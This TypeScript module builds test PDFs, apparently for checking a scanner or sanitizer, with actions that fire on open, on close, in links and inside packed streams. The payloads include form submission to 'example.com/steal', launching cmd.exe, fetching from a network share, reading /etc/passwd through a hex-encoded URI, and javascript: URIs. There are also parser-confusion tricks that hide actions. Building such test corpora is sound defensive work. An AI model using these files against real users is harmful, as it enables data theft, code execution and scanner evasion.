import { deflateSync } from 'node:zlib';
import { pdfStream, rawPdf } from './sample-bytes.js';

interface ActivePdf {
  what: string;
  bytes: () => Buffer;
}

const page = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R >>'];
const catalog = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const SUBMIT = '<< /S /SubmitForm /F << /FS /URL /F (https://example.com/steal) >> >>';

/** Actions by the place from which a reader runs them. */
const acting = (what: string, action: string): ActivePdf[] => {
  const withAnnotation = `<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action} >>] >>`;
  const places: Record<string, () => Buffer> = {
    'when opened': () => rawPdf([catalog(`/OpenAction ${action}`), ...page]),
    'when closed': () => rawPdf([catalog(`/AA << /WC ${action} >>`), ...page]),
    'in a link': () => rawPdf([catalog(''), page[0] ?? '', withAnnotation]),
    'after another action': () =>
      rawPdf([catalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${action}] >>`), ...page]),
    'in a tree of names': () =>
      rawPdf([catalog(`/Names << /Pages << /Names [(x) ${action}] >> >>`), ...page]),
    'packed with other objects': () =>
      rawPdf([
        catalog('/OpenAction 5 0 R'),
        ...page,
        pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(`5 0 ${action}`)),
      ]),
  };
  return Object.entries(places).map(([place, bytes]) => ({
    what: `${what}, ${place}`,
    bytes,
  }));
};

const twice = (first: string, second: string) => {
  const whole = rawPdf([catalog('/OpenAction 4 0 R'), ...page, first]).toString('latin1');
  const [body = '', trailer = ''] = whole.split('trailer');
  return Buffer.from(`${body}4 0 obj\n${second}\nendobj\ntrailer${trailer}`, 'latin1');
};
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const HARMLESS = '<< /S /GoTo /D [3 0 R /Fit] >>';

/** Read in one way by one program and in another way by the next. */
const TWO_FACED_PDFS: ActivePdf[] = (
  [
    ['an object twice, the harmless one last', () => twice(SCRIPT, HARMLESS)],
    ['an object twice, the harmless one first', () => twice(HARMLESS, SCRIPT)],
    ['a key twice', () => twice('<< /S /SubmitForm /S /GoTo /D [3 0 R /Fit] >>', HARMLESS)],
    ['a whole action twice', () => twice(`<< /A ${SUBMIT} /A ${HARMLESS} >>`, HARMLESS)],
    [
      'its kind as an object of its own',
      () => rawPdf([catalog('/OpenAction << /S 4 0 R >>'), ...page, '/Launch']),
    ],
    [
      'its address as an object of its own',
      () =>
        rawPdf([catalog('/OpenAction << /S /URI /URI 4 0 R >>'), ...page, '(java\\163cript:alert\\(1\\))']),
    ],
    [
      'an object within a picture',
      () =>
        rawPdf([
          catalog('/OpenAction 9 0 R'),
          ...page,
          pdfStream('/Subtype /Image', Buffer.from(`9 0 obj ${SCRIPT} endobj`)),
        ]),
    ],
    [
      'packed objects without their kind',
      () =>
        rawPdf([
          catalog('/OpenAction 5 0 R'),
          ...page,
          pdfStream('/N 1 /First 4 /Filter [/Fl]', deflateSync(`5 0 ${SCRIPT}`)),
        ]),
    ],
    [
      'packed objects longer than they say',
      () =>
        Buffer.from(
          rawPdf([
            catalog('/OpenAction 6 0 R'),
            ...page,
            pdfStream('/Type /ObjStm /N 2 /First 8', Buffer.from(`5 0 6 11 (endstream) ${SCRIPT}`)),
          ])
            .toString('latin1')
            .replace(/\/Length \d+/, '/Length 9'),
          'latin1',
        ),
    ],
    [
      'objects packed in a way of its own',
      () =>
        rawPdf([
          catalog(''),
          ...page,
          pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', Buffer.from('x')),
        ]),
    ],
    ['a comment amid an object', () => twice('%\n<< /S %/GoTo\n/JavaScript /J#53 (x) >>', HARMLESS)],
  ] as const
).map(([what, bytes]) => ({ what, bytes }));

export const ACTIVE_PDFS: readonly ActivePdf[] = [
  ...acting('sends what is typed', SUBMIT),
  ...acting('opens a file of the network', '<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
  ...acting('opens a file within', '<< /S /GoToE /T << /R /C /N (x) >> >>'),
  ...acting('runs an address', '<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
  ...acting('opens a local file as an address', '<< /S /URI /URI <66696C653A2F2F2F6574632F706173737764> >>'),
  ...acting('imports data', '<< /S /ImportData /F (x.fdf) >>'),
  ...acting('starts a program', '<< /S /Launch /F (cmd.exe) >>'),
  ...acting('plays a program', '<< /S /RichMediaExecute /TA 3 0 R >>'),
  ...TWO_FACED_PDFS,
];
